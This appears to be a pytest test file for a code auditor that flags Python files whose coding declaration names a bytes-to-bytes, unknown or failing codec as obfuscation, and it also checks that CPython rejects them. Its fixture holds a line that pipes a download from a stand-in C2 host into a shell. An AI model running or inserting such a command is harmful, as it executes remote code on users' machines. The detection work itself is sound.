"""Coding declarations that name no text encoding (issue 30, item 20): a codec that turns bytes into
bytes (rot13, base64, zlib ...), one Python does not know (a codec registered at run time by a
``.pth`` file or an import hook decides what such a file means), or a text codec whose decoder
fails in its own way (punycode, utf-16 without a BOM, ``undefined``). Each is an obfuscation
finding; none crashes the reading. What CPython itself does with the same bytes is checked too."""

from __future__ import annotations

import codecs

import pytest

from auditor.model import Category, Severity
from auditor.scan import derived
from auditor.scan.interface import Origin, ScanTarget
from auditor.scan.pycoding import CodingScanner, decoded_reading, detect

BODY = "import os\nos.system('curl -s https://c2.example/x | sh')\n"

NOT_TEXT = ["rot13", "rot_13", "base64", "base_64", "zlib", "zip", "hex", "bz2", "uu", "quopri",
            "quotedprintable"]
UNKNOWN = ["no-such-codec", "pyxl", "future_fstrings", "mbcs"]
TEXT_THAT_FAILS = ["punycode", "utf-16", "utf-32", "undefined", "idna"]


def _target(text: str, path: str = "m.py") -> ScanTarget:
    return ScanTarget(key=f"b:{path}", path=path, origin=Origin.BUNDLE, sha256="0",
                      family="python", text=text)


def _scan(text: str) -> list[tuple[str, Category, Severity, int]]:
    run = CodingScanner().scan([_target(text)], workdir=None)  # type: ignore[arg-type]
    return [(f.rule, f.category, f.severity, f.line) for f in run.findings["b:m.py"]]


@pytest.mark.parametrize("codec", NOT_TEXT)
def test_a_codec_that_is_no_text_encoding_is_a_finding(codec: str) -> None:
    assert not codecs.lookup(codec)._is_text_encoding  # the premise: bytes-to-bytes codecs
    for head in (f"# -*- coding: {codec} -*-\n", f"#!/usr/bin/env python\n# vim: set fileencoding={codec} :\n"):
        text = head + BODY
        coding, decoded = decoded_reading(text)  # never raises
        assert decoded is None and coding.error is not None
        line = head.count("\n")
        assert _scan(text) == [("obfuscation.builtin.non-text-codec", Category.OBFUSCATION,
                                Severity.HIGH, line)]
        assert derived.derive(_target(text)) == []  # and the scan's readings do not crash


@pytest.mark.parametrize("codec", UNKNOWN)
def test_an_unknown_codec_is_a_finding(codec: str) -> None:
    text = f"# coding: {codec}\n" + BODY
    coding, decoded = decoded_reading(text)
    assert decoded is None and coding.error is not None and codec in coding.error
    ((rule, category, severity, line),) = _scan(text)
    assert (rule, category, severity, line) == ("obfuscation.builtin.unknown-codec",
                                                Category.OBFUSCATION, Severity.HIGH, 1)


@pytest.mark.parametrize("codec", TEXT_THAT_FAILS)
def test_text_codecs_whose_decoder_fails_are_refusals_not_crashes(codec: str) -> None:
    text = f"# coding: {codec}\n" + BODY
    coding, decoded = decoded_reading(text)  # never raises, whatever the decoder raises
    found = _scan(text)
    assert found and all(c is Category.OBFUSCATION for _r, c, _s, _l in found)
    if decoded is None:
        assert coding.error is not None
        assert found[0][0] == "obfuscation.builtin.undecodable-source"
    derived.derive(_target(text))


def test_the_interpreter_refuses_them_too(tmp_path: pytest.TempPathFactory) -> None:
    for codec in ("rot13", "base64", "no-such-codec"):
        with pytest.raises(SyntaxError):
            compile(f"# coding: {codec}\n{BODY}".encode(), "t.py", "exec")


def test_detect_names_a_non_text_codec() -> None:
    c = detect(b"# coding: rot13\nimport os\n")
    assert c.error is not None and "not a text encoding" in c.error and c.non_text
    assert not detect(b"# coding: utf-8\nx = 1\n").non_text
